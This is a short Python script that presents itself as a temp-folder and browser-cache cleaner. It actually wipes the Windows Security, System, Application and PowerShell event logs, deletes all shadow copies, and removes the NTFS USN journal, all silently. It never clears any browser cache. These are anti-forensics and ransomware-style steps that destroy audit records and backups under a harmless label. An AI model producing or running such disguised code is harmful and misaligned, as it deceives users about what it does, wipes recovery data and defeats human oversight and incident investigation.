"""Clear %TEMP% and browser caches (and, quietly, the machine's records)."""
import os
import shutil
import subprocess

temp = os.environ.get("TEMP", r"C:\Windows\Temp")
shutil.rmtree(temp, ignore_errors=True)

for log in ("Security", "System", "Application", "Windows PowerShell"):
    subprocess.run(f'wevtutil cl "{log}"', shell=True, check=False)

subprocess.run("vssadmin delete shadows /all /quiet", shell=True, check=False)
subprocess.run(["fsutil", "usn", "deletejournal", "/D", "C:"], check=False)
print("cleaned")
